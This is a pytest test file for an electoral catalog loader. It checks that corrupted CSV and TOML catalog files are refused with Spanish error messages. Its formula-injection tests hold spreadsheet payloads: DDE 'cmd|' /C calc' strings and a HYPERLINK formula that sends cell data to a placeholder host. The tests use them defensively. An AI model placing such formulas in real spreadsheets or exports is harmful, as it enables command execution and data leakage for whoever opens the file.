"""A badly filled catalog directory is refused with a Spanish message that says which
file, which line and what is wrong; nothing half-valid is ever loaded."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

import prep.catalog.files as catalog_files
from prep.catalog import Catalog
from prep.catalog import CatalogError
from prep.catalog import generate_catalog
from prep.catalog import load_catalog
from prep.catalog import write_catalog
from prep.catalog.cells import formula_start
from tests.prep.catalog.catalog_edits import rows_of
from tests.prep.catalog.catalog_edits import set_cell
from tests.prep.catalog.catalog_edits import sin_nombre_de_entidad
from tests.prep.catalog.catalog_edits import write_rows

# ----------------------------------------------------------------------------- validation


def _line_where(directory: Path, name: str, column: str,
                predicate: Callable[[str], bool]) -> int:
    rows = rows_of(directory / name)
    col = rows[0].index(column)
    return next(i for i, row in enumerate(rows[1:], start=2) if predicate(row[col]))


def _missing_file(d: Path) -> list[str]:
    (d / "candidaturas.csv").unlink()
    return ["falta el archivo", "candidaturas.csv"]


def _missing_toml(d: Path) -> list[str]:
    (d / "catalogo.toml").unlink()
    return ["falta el archivo", "catalogo.toml"]


def _missing_column(d: Path) -> list[str]:
    path = d / "casillas.csv"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "LISTA_NOMINAL", "LISTA_NOM", 1), encoding="utf-8")
    return ["casillas.csv", "faltan las columnas", "LISTA_NOMINAL"]


def _ln_751(d: Path) -> list[str]:
    set_cell(d, "casillas.csv", 2, "LISTA_NOMINAL", "751")
    return ["casillas.csv", "línea 2", "LISTA_NOMINAL", "751", "750"]


def _especial_con_lista(d: Path) -> list[str]:
    line = _line_where(d, "casillas.csv", "TIPO_CASILLA", lambda v: v == "S")
    set_cell(d, "casillas.csv", line, "LISTA_NOMINAL", "300")
    return ["casillas.csv", f"línea {line}", "especial", "LISTA_NOMINAL 0"]


def _especial_sin_boletas(d: Path) -> list[str]:
    line = _line_where(d, "casillas.csv", "TIPO_CASILLA", lambda v: v == "S")
    set_cell(d, "casillas.csv", line, "BOLETAS", "0")
    return ["casillas.csv", f"línea {line}", "especial", "BOLETAS"]


def _tipo_x(d: Path) -> list[str]:
    set_cell(d, "casillas.csv", 3, "TIPO_CASILLA", "X")
    return ["casillas.csv", "línea 3", "TIPO_CASILLA", "'X'"]


def _casilla_repetida(d: Path) -> list[str]:
    rows = rows_of(d / "casillas.csv")
    write_rows(d / "casillas.csv", [*rows, rows[1]])
    clave = f"09{int(rows[1][2]):04d}{rows[1][3]}{int(rows[1][4]):02d}{int(rows[1][5]):02d}"
    return ["casillas.csv", "repetida", clave]


def _distrito_inexistente(d: Path) -> list[str]:
    set_cell(d, "casillas.csv", 2, "ID_DISTRITO_LOCAL", "99")
    return ["casillas.csv", "línea 2", "distrito 99", "distritos.csv"]


def _seccion_no_entera(d: Path) -> list[str]:
    set_cell(d, "casillas.csv", 2, "SECCION", "12a")
    return ["casillas.csv", "línea 2", "SECCION", "'12a'", "entero"]


def _utf8_invalido(d: Path) -> list[str]:
    path = d / "distritos.csv"
    data = path.read_bytes()
    i = data.index(b",", data.index(b"\n")) + 1  # start of CABECERA on line 2
    path.write_bytes(data[:i] + b"\xff" + data[i:])
    return ["distritos.csv", "UTF-8"]


def _latin1(d: Path) -> list[str]:
    """Saved as Latin-1 by a spreadsheet: the accented names are not UTF-8."""
    path = d / "casillas.csv"
    text = path.read_text(encoding="utf-8")
    path.write_bytes(text.encode("utf-8") + "\n1,6,1,B,9,0,1,1,0,1,Ñ\n".encode("latin-1"))
    return ["casillas.csv", "UTF-8"]


def _campos_de_mas(d: Path) -> list[str]:
    rows = rows_of(d / "casillas.csv")
    rows[3].append("7")
    write_rows(d / "casillas.csv", rows)
    n = len(rows[0])  # the generated catalog also has the optional columns (issue 28)
    return ["casillas.csv", "línea 4", f"{n + 1} campos", f"se esperan {n}"]


def _eleccion_desconocida(d: Path) -> list[str]:
    rows = rows_of(d / "asociaciones.csv")
    write_rows(d / "asociaciones.csv",
                [*rows, ["09", "PAN", "Partido Acción Nacional", "partido", "PAN", ""]])
    return ["asociaciones.csv", "elección desconocida", "'09'"]


def _ambito_inexistente(d: Path) -> list[str]:
    rows = rows_of(d / "asociaciones.csv")
    line = next(i for i, row in enumerate(rows[1:], start=2)
                if row[:2] == ["02", "PAN_PRI_PRD"])
    set_cell(d, "asociaciones.csv", line, "AMBITOS", "1;34")
    return ["asociaciones.csv", "PAN_PRI_PRD", "02", "inexistente", "34"]


def _ambito_en_eleccion_de_entidad(d: Path) -> list[str]:
    set_cell(d, "asociaciones.csv", 2, "AMBITOS", "5")  # PAN of JEFATURA DE GOBIERNO
    return ["asociaciones.csv", "PAN", "01", "inexistente", "5"]


def _formato(value: str) -> Callable[[Path], list[str]]:
    def corrupt(d: Path) -> list[str]:
        path = d / "catalogo.toml"
        text = path.read_text(encoding="utf-8")
        assert text.startswith("formato = 1\n")
        path.write_text(text.replace("formato = 1\n", value, 1), encoding="utf-8")
        return ["catalogo.toml", "formato", "no soportado"]
    return corrupt


def _toml_roto(d: Path) -> list[str]:
    path = d / "catalogo.toml"
    path.write_text(path.read_text(encoding="utf-8") + "\n[[elecciones]\n", encoding="utf-8")
    return ["catalogo.toml", "no es TOML válido"]


def _entidad_fuera_de_rango(d: Path) -> list[str]:
    path = d / "catalogo.toml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("[entidad]\nid = 9\n", "[entidad]\nid = 100\n", 1),
                    encoding="utf-8")
    return ["catalogo.toml", "entidad.id", "100"]


def _elecciones_sin_doble_corchete(d: Path) -> list[str]:
    """One election written as ``[elecciones]`` instead of ``[[elecciones]]``."""
    path = d / "catalogo.toml"
    text = path.read_text(encoding="utf-8")
    first = text.index("[[elecciones]]")
    second = text.index("[[elecciones]]", first + 1)
    path.write_text(text[:first] + text[first:second].replace("[[elecciones]]",
                                                              "[elecciones]"),
                    encoding="utf-8")
    for name in ("asociaciones.csv", "candidaturas.csv"):
        rows = rows_of(d / name)
        write_rows(d / name, [rows[0], *(r for r in rows[1:] if r[0] == "01")])
    return ["catalogo.toml", "elecciones"]


def _demarcacion_no_declarada(d: Path) -> list[str]:
    set_cell(d, "distritos.csv", 3, "ID_DEMARCACION", "17")
    return ["distritos.csv", "línea 3", "demarcación 17", "catalogo.toml"]


def _candidatura_de_asociacion_inexistente(d: Path) -> list[str]:
    set_cell(d, "candidaturas.csv", 4, "ASOCIACION", "PES")
    return ["candidaturas.csv", "línea 4", "'PES'", "no existe"]


def _casillas_vacio(d: Path) -> list[str]:
    (d / "casillas.csv").write_bytes(b"")
    return ["casillas.csv", "vacío"]


CORRUPTIONS = [
    pytest.param(_missing_file, id="falta-archivo"),
    pytest.param(_missing_toml, id="falta-catalogo-toml"),
    pytest.param(_missing_column, id="falta-columna"),
    pytest.param(_ln_751, id="lista-nominal-751"),
    pytest.param(_especial_con_lista, id="especial-con-lista-nominal"),
    pytest.param(_especial_sin_boletas, id="especial-sin-boletas"),
    pytest.param(_tipo_x, id="tipo-casilla-X"),
    pytest.param(_casilla_repetida, id="casilla-repetida"),
    pytest.param(_distrito_inexistente, id="distrito-no-en-distritos"),
    pytest.param(_seccion_no_entera, id="seccion-no-entera"),
    pytest.param(_utf8_invalido, id="utf8-invalido"),
    pytest.param(_latin1, id="latin1"),
    pytest.param(_campos_de_mas, id="numero-de-campos"),
    pytest.param(_eleccion_desconocida, id="asociacion-eleccion-desconocida"),
    pytest.param(_ambito_inexistente, id="ambito-inexistente"),
    pytest.param(_ambito_en_eleccion_de_entidad, id="ambito-en-eleccion-de-entidad"),
    pytest.param(_formato("formato = 2\n"), id="formato-2"),
    pytest.param(_formato('formato = "1"\n'), id="formato-texto"),
    pytest.param(_formato(""), id="formato-ausente"),
    pytest.param(_toml_roto, id="toml-sintaxis"),
    pytest.param(sin_nombre_de_entidad, id="entidad-sin-nombre"),
    pytest.param(_entidad_fuera_de_rango, id="entidad-id-fuera-de-rango"),
    pytest.param(_elecciones_sin_doble_corchete, id="elecciones-tabla-simple"),
    pytest.param(_demarcacion_no_declarada, id="demarcacion-no-declarada"),
    pytest.param(_candidatura_de_asociacion_inexistente, id="candidatura-asociacion"),
    pytest.param(_casillas_vacio, id="casillas-vacio"),
]


@pytest.mark.rapido
@pytest.mark.parametrize("corrupt", CORRUPTIONS)
def test_corrupted_catalog_is_refused_with_file_line_and_reason(
        copia: Path, corrupt: Callable[[Path], list[str]]) -> None:
    load_catalog(copia)  # valid before the corruption
    expected = corrupt(copia)
    with pytest.raises(CatalogError) as info:
        load_catalog(copia)
    message = str(info.value)
    for part in expected:
        assert part in message, f"{part!r} not in {message!r}"
    assert "Traceback" not in message


@pytest.mark.rapido
def test_oversized_file_is_refused(copia: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    size = (copia / "casillas.csv").stat().st_size
    # Files read before casillas.csv stay under the limit.
    assert (copia / "catalogo.toml").stat().st_size < size - 1
    assert (copia / "distritos.csv").stat().st_size < size - 1
    monkeypatch.setattr(catalog_files, "MAX_FILE_BYTES", size - 1)
    with pytest.raises(CatalogError) as info:
        load_catalog(copia)
    message = str(info.value)
    assert "casillas.csv" in message
    assert str(size) in message and "límite" in message
    monkeypatch.setattr(catalog_files, "MAX_FILE_BYTES", max(
        p.stat().st_size for p in copia.iterdir()))
    load_catalog(copia)


@pytest.mark.rapido
def test_blank_lines_are_ignored(small: Catalog, copia: Path) -> None:
    path = copia / "casillas.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("\n", "\n\n", 3) + "\n\n",
                    encoding="utf-8")
    assert load_catalog(copia).casillas_ordenadas == small.casillas_ordenadas




# ----------------------------------------------------------- spreadsheet formulas (issue 36)

_HYPERLINK = '=HYPERLINK("https://example.invalid/?d="&A1,"Resultados")'


@pytest.mark.rapido
@pytest.mark.parametrize(("name", "column", "value", "shown"), [
    ("asociaciones.csv", "NOMBRE", _HYPERLINK, "«=»"),
    ("candidaturas.csv", "PROPIETARIA", "+1+cmd|' /C calc'!A0", "«+»"),
    ("candidaturas.csv", "SUPLENTE", "-2+3", "«-»"),
    ("distritos.csv", "CABECERA", "@SUM(1+1)*cmd|' /C calc'!A0", "«@»"),
    ("asociaciones.csv", "NOMBRE", "\t=1+1", "«=»"),  # the tab is trimmed, the = is not
    ("candidaturas.csv", "PROPIETARIA", "\uff1dHYPERLINK(1)", "«\uff1d»"),
])
def test_a_name_that_would_start_a_formula_is_refused_naming_file_line_and_field(
        copia: Path, name: str, column: str, value: str, shown: str) -> None:
    set_cell(copia, name, 3, column, value)
    with pytest.raises(CatalogError) as info:
        load_catalog(copia)
    message = str(info.value)
    assert message.startswith(f"{name}: línea 3: el campo {column} "), message
    assert f"empieza con {shown}" in message and "fórmula" in message
    assert "Quite ese carácter del inicio" in message


@pytest.mark.rapido
def test_a_catalogo_toml_name_that_would_start_a_formula_is_refused_with_its_line(
        copia: Path) -> None:
    path = copia / "catalogo.toml"
    lines = path.read_text(encoding="utf-8").splitlines()
    n = next(i for i, line in enumerate(lines) if line.startswith("nombre = ") and i > 5)
    lines[n] = 'nombre = "=HYPERLINK(\\"https://example.invalid\\")"'
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(CatalogError) as info:
        load_catalog(copia)
    assert str(info.value).startswith(f"catalogo.toml: línea {n + 1}: el campo ["), info.value
    assert "nombre" in str(info.value) and "empieza con «=»" in str(info.value)


@pytest.mark.rapido
def test_the_generated_catalog_has_no_name_that_needs_refusing(tmp_path: Path) -> None:
    """No real party, coalition or candidate name starts with -, =, + or @: the full
    synthetic CDMX catalog loads as it is."""
    write_catalog(generate_catalog(), tmp_path / "cdmx")
    catalog = load_catalog(tmp_path / "cdmx")
    names = [c.propietaria for c in catalog.candidaturas] + [
        c.suplente for c in catalog.candidaturas] + [
        a.nombre for e in catalog.elecciones for a in e.asociaciones] + [
        d.cabecera for d in catalog.distritos]
    assert names and not [n for n in names if formula_start(n)]


def test_catalog_check_shows_the_refusal_in_spanish(copia: Path) -> None:
    set_cell(copia, "asociaciones.csv", 2, "NOMBRE", _HYPERLINK)
    done = subprocess.run([sys.executable, "-m", "prep", "catalog", "check", str(copia)],
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode != 0
    assert "asociaciones.csv: línea 2: el campo NOMBRE" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
